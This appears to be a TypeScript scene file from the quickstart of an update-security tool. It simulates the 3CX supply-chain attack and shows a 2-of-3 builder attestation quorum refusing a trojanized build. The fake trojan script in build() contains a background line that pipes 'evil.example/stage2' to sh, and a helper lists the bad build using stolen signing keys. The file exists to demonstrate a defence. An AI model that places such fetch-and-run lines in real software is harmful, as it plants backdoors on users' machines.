/**
 * The quickstart's 3CX scenes (verified builds). In 2023 the 3CX desktop app's clean
 * source went through a compromised build environment, and the vendor's own key signed
 * the trojanized result. Here three independent builders rebuild demo-app 1.2.0 and the
 * root requires 2 of 3 to agree: builder C is compromised and produces other bytes. Its
 * build is refused at publish; and an attacker who also stole the online keys, and lists
 * C's build directly in signed metadata, still cannot make a client install it.
 */
import { createHash } from "node:crypto";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import type { UpdateOutcome } from "@bulwark/client";
import type { RepoDir } from "@bulwark/publisher";
import { tarGz } from "./demo-archive.js";
import { listWithStolenKeys } from "./stolen-keys.js";

/** What a scene of the summary table expected to happen. */
export type Expected = "accepted" | "refused" | "rolled back" | "consistent" | "reported" | "staged";

/** What the quickstart gives a scene: narration, the vendor's commands, endpoints. */
export interface SceneKit {
  /** The work folder, which is the vendor commands' working directory. */
  readonly work: string;
  /** The repository folder, relative to `work`. */
  readonly repo: string;
  step(text: string): void;
  say(text: string): void;
  record(scene: string, expected: Expected, actual: string, detail: string): void;
  /** Runs `bulwark argv --json --quiet` (printed as a command line); the exit code and JSON output. */
  run(argv: string[]): Promise<{ code: number; data: Record<string, unknown> }>;
  /** Publishes a staged root change, signed offline by 2 of the 3 root keys; the publish's report. */
  publishRoot(): Promise<Record<string, unknown>>;
  /** Copies the repository's public/ to what the update server serves. */
  sync(): Promise<void>;
  /** One update cycle of an endpoint. */
  attempt(endpoint: string): Promise<{ outcome?: UpdateOutcome; error?: string }>;
  installed(endpoint: string): Promise<string>;
  /** The repository, for the attacker who holds its online keys. */
  repoDir(): Promise<RepoDir>;
}

const PRODUCT = "demo-app";
const VERSION = "1.2.0";
const BUILDERS = ["A", "B", "C"] as const;
const builderId = (name: string) => `https://builder-${name.toLowerCase()}.example`;
/** The release commit all three builders check out. */
const SOURCE = `sha1:${createHash("sha1").update(`${PRODUCT} v${VERSION}`).digest("hex")}`;

function build(trojan: boolean): Buffer {
  return tarGz({
    VERSION: `${VERSION}\n`,
    "bin/demo-app": trojan
      ? `#!/bin/sh\necho "demo-app ${VERSION}"\n(curl -s evil.example/stage2 | sh) 2>/dev/null &\n`
      : `#!/bin/sh\necho "demo-app ${VERSION}"\n`,
    "README.txt": `demo-app ${VERSION}, installed by Bulwark.\n`,
  });
}

const short = (text: string) => text.replace(/https:\/\/builder-([a-c])\.example/g, (_m, c: string) => c.toUpperCase());

/** "agreed: …; disagreed: …" of a quorum message, with builder IDs shortened to their letters. */
function verdict(message: string): string {
  const agreed = /agreed: ([^;]*)/.exec(message)?.[1] ?? "?";
  const disagreed = [...message.matchAll(/https:\/\/builder-([a-c])\.example \(/g)].map((m) => m[1]?.toUpperCase());
  const others = disagreed.length > 0 ? `; ${disagreed.join(", ")} disagree${disagreed.length === 1 ? "s" : ""}` : "";
  return agreed === "none" ? `no builder attests it${others}` : `only ${short(agreed)} attests it${others}`;
}

/** Three builders, a 2-of-3 policy in root, C compromised: the scenes, recorded on `kit`. */
export async function verifiedBuildsScenes(kit: SceneKit): Promise<void> {
  const dir = (...p: string[]) => path.join("builders", ...p);
  // Setting the scene must work; only the recorded scenes may be refused.
  const must = async (argv: string[]) => {
    const { code, data } = await kit.run(argv);
    if (code !== 0) throw new Error(`bulwark ${argv.join(" ")} failed: ${JSON.stringify(data)}`);
    return data;
  };
  kit.step("Verified builds (the 3CX attack): three independent builders; the root requires 2 of 3 to agree");
  await mkdir(path.join(kit.work, "builders"), { recursive: true });
  const policy = ["policy", "set", kit.repo, "--product", PRODUCT, "--threshold", "2"];
  for (const name of BUILDERS) {
    await must(["attest", "keygen", "--out", dir(`${name.toLowerCase()}.pem`)]);
    policy.push("--builder", `${builderId(name)}=${dir(`${name.toLowerCase()}.pub.json`)}`);
  }
  // The earlier demo-app releases were never attested: `policy set` names them and refuses
  // unless told that clients trusting the new root may refuse them.
  const set = await must([...policy, "--allow-unattested-existing"]);
  const unattested = (set.unattested as Array<{ version: string }> | undefined) ?? [];
  if (unattested.length > 0) {
    kit.say(
      `  demo-app ${unattested.map((u) => u.version).join(", ")} came before any builder: clients under the new root refuse them (--allow-unattested-existing)`,
    );
  }
  const published = await kit.publishRoot();
  await kit.sync();
  const rootVersion = (published.versions as Record<string, number> | undefined)?.root;
  kit.say(`  the policy is part of root version ${rootVersion}: only the offline root keys can change it`);

  kit.step(
    `Each builder checks out ${SOURCE.slice(0, 17)}… and builds ${PRODUCT} ${VERSION}; C's build machine is compromised`,
  );
  const file = `${PRODUCT}-${VERSION}.tar.gz`;
  for (const name of BUILDERS) {
    const artifact = dir(name.toLowerCase(), file);
    await mkdir(path.join(kit.work, path.dirname(artifact)), { recursive: true });
    const bytes = build(name === "C");
    await writeFile(path.join(kit.work, artifact), bytes);
    kit.say(`  builder ${name} got sha256 ${createHash("sha256").update(bytes).digest("hex").slice(0, 16)}…`);
    await must([
      ...["attest", "--key", dir(`${name.toLowerCase()}.pem`), "--artifact", artifact],
      ...["--source-uri", `git+https://git.example/${PRODUCT}@refs/tags/v${VERSION}`, "--source-digest", SOURCE],
      ...["--builder-id", builderId(name), "--out", dir(`${name.toLowerCase()}.intoto.jsonl`)],
    ]);
  }
  const attestations = BUILDERS.flatMap((n) => ["--attestation", dir(`${n.toLowerCase()}.intoto.jsonl`)]);
  const add = (artifact: string) => [
    ...["release", "add", kit.repo, artifact, "--name", PRODUCT, "--version", VERSION],
    ...["--source-digest", SOURCE, ...attestations],
  ];

  kit.step("The compromised pipeline publishes C's build (signed by the vendor's own key, as at 3CX)");
  const trojan = await kit.run(add(dir("c", file)));
  const error = (trojan.data.error as { code?: string; message?: string } | undefined) ?? {};
  if (error.message) kit.say(`  ${short(error.message)}`);
  kit.record(
    "C's build at publish",
    "refused",
    trojan.code === 1 && error.code === "ATTEST_NO_QUORUM" ? "refused" : `exit ${trojan.code}`,
    error.message ? `${error.code}: ${verdict(error.message)}` : "listed",
  );

  kit.step("The vendor publishes the build A and B agree on; an endpoint installs it after checking the quorum");
  const genuine = await kit.run(add(dir("a", file)));
  if (genuine.code === 0) await kit.run(["repo", "publish", kit.repo]);
  await kit.sync();
  const good = await kit.attempt("endpoint-c");
  kit.record(
    "A+B agree on 1.2.0",
    "accepted",
    good.outcome?.action === "installed" ? "accepted" : "refused",
    good.error ?? `installed ${await kit.installed("endpoint-c")}: A and B attest it`,
  );

  kit.step(
    "The attacker also stole the online keys (targets, snapshot, timestamp) and lists C's build as 1.2.1, signed",
  );
  await listWithStolenKeys(await kit.repoDir(), {
    name: PRODUCT,
    version: "1.2.1",
    fileName: `${PRODUCT}-1.2.1.tar.gz`,
    bytes: await readFile(path.join(kit.work, dir("c", file))),
    bundle: await readFile(path.join(kit.work, dir("c.intoto.jsonl"))),
    custom: { source: SOURCE },
  });
  await kit.sync();
  const stolen = await kit.attempt("endpoint-c");
  if (stolen.error) kit.say(`  ${short(stolen.error)}`);
  kit.record(
    "stolen keys list C's build",
    "refused",
    stolen.error?.startsWith("CLIENT_NO_BUILD_QUORUM") ? "refused" : stolen.error ? "error" : "accepted",
    stolen.error
      ? `CLIENT_NO_BUILD_QUORUM: ${verdict(stolen.error)}`
      : `installed ${await kit.installed("endpoint-c")}`,
  );
}
